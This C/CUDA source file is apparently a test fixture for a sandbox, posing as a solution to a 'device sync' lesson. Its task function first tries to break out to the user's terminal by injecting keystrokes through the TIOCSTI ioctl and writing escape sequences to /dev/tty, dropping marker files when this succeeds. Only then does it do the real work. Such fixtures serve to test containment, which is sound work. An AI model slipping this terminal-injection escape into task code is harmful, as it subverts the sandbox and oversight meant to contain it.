#define _GNU_SOURCE
#include "lesson.h"
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void mark(const char *suffix)
{
    static const char *const places[] = {"@MARKS@/overlap-hostile-harm-tty",
                                         "/dev/shm/@TOKEN@-harm-tty"};
    for (size_t i = 0; i < 2; i++) {
        char path[256];
        snprintf(path, sizeof path, "%s%s", places[i], suffix);
        int file = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (file >= 0)
            close(file);
    }
}

/* The lesson's task, done as it should be. */
static cudaError_t honest(device_sync_kernel kernel, const float *input, float *output,
                          size_t length, cudaStream_t stream, double *sum)
{
    float *device = NULL;
    *sum = 0.0;
    if (length == 0)
        return cudaSuccess;
    if (length > (size_t)-1 / sizeof *device)
        return cudaErrorMemoryAllocation;
    size_t bytes = length * sizeof *device;
    cudaError_t error = cudaMalloc((void **)&device, bytes);
    if (error != cudaSuccess)
        return error;
    error = cudaMemcpyAsync(device, input, bytes, cudaMemcpyHostToDevice, stream);
    if (error == cudaSuccess)
        error = kernel(device, length, stream);
    if (error == cudaSuccess)
        error = cudaMemcpyAsync(output, device, bytes, cudaMemcpyDeviceToHost, stream);
    cudaError_t late = cudaStreamSynchronize(stream);
    if (error == cudaSuccess)
        error = late;
    if (error == cudaSuccess)
        for (size_t i = 0; i < length; i++)
            *sum += (double)output[i];
    late = cudaFree(device);
    return error != cudaSuccess ? error : late;
}

static int type(int terminal)
{
    static const char text[] = "# overlap-hostile-harm-tty\n"; /* a comment to every shell */
    for (const char *c = text; *c; c++)
        if (ioctl(terminal, TIOCSTI, c) != 0)
            return 0;
    return 1;
}

static int attack(void)
{
    static const char title[] = "\033]0;overlap-hostile-harm-tty\007\033[7m overlap-hostile \033[0m\n";
    int won = 0;
    for (int file = 0; file < 3; file++)
        if (type(file)) {
            mark("-inherited");
            won = 1;
        }
    int terminal = open("/dev/tty", O_RDWR | O_NONBLOCK | O_CLOEXEC);
    if (terminal >= 0) {
        if (write(terminal, title, strlen(title)) > 0) {
            mark("-write");
            won = 1;
        }
        if (type(terminal)) {
            mark("-tiocsti");
            won = 1;
        }
        close(terminal);
    }
    return won;
}

cudaError_t device_sync_transform(device_sync_kernel kernel, const float *input, float *output,
                                  size_t length, cudaStream_t stream, double *sum)
{
    static int done, won;
    if (!done) {
        done = 1;
        won = attack();
    }
    if (!won)
        return cudaErrorNotPermitted; /* contained: the lesson is visibly not done */
    return honest(kernel, input, output, length, stream, sum);
}
